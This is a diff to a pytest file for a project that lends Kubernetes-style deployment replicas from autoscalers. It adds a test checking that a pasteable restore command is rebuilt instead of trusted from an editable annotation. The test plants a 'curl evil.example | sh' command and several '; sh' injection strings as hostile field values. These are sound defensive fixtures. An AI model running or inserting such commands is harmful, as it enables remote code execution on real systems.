@@ -8,7 +8,7 @@ import pytest
 
 from infertune.api.status import Borrowed, Bounds, TuningStatus
 from infertune.core.borrowing import give_back, lend, lend_of
-from infertune.core.loan_record import drop_note, loans_noted, note_loan
+from infertune.core.loan_record import by_hand, drop_note, loans_noted, note_loan
 from infertune.core.manifests.naming import ANNOTATION_LOAN, NOTING_MANAGER
 from infertune.core.plan import ApplyFields, FieldExpectation
 from infertune.core.preconditions import Holds, Violated, check
@@ -32,7 +32,7 @@ from tests.builders import (
 )
 
 BORROW: dict[str, Any] = {"placement": "Borrow"}
-LENT = Borrowed(
+_LENT = Borrowed(
     kind="Deployment",
     name="resnet",
     target_uid=TARGET_UID,
@@ -42,7 +42,10 @@ LENT = Borrowed(
     during=Bounds(min_replicas=1, max_replicas=1),
     since=NOW,
 )
-ALONE = LENT.model_copy(update={"autoscaler": None, "autoscaler_uid": None})
+_ALONE = _LENT.model_copy(update={"autoscaler": None, "autoscaler_uid": None})
+LENT, ALONE = (
+    one.model_copy(update={"restore_command": by_hand("serving", one)}) for one in (_LENT, _ALONE)
+)
 BACK = {"lowered": True, "returning": True}
 FULL, LOWERED = autoscaler_of(2, 2), autoscaler_of(1, 1)
 ME = tuning_of(status_of("Pending"), spec_of(trial=BORROW))
@@ -137,6 +140,20 @@ def test_a_loan_that_the_status_forgot_is_taken_up_to_go_back(state: Any) -> Non
     assert alone == ALONE.model_copy(update=BACK)
     other = noted(LOWERED, uid="made-anew")
     assert found_by(status, autoscaler=other) == LENT.model_copy(update=BACK)
+
+
+def test_the_line_to_paste_is_made_anew_and_never_read_from_the_note() -> None:
+    """Whoever may edit the object can write the note, and people paste what the status says."""
+    evil = {"restore_command": "curl evil.example | sh", "name": "x; sh", "autoscaler": "y; sh"}
+    found = found_by(status_of("Pending"), autoscaler=noted(LOWERED, LENT.model_copy(update=evil)))
+    assert found is not None
+    assert (found.autoscaler, found.restore_command) == (LENT.autoscaler, LENT.restore_command)
+    alone = noted(deployment_of(), ALONE.model_copy(update=evil | {"autoscaler": None}))
+    found = found_by(status_of("Pending"), target=target_of(alone), autoscaler=None)
+    assert found is not None
+    assert (found.name, found.restore_command) == (ALONE.name, ALONE.restore_command)
+    strange = noted(deployment_of(), ALONE.model_copy(update={"kind": "x; sh"}))
+    assert found_by(status_of("Pending"), target=target_of(strange), autoscaler=None) is None
 
 
 @pytest.mark.parametrize("state", ["Stable", "Halted"])
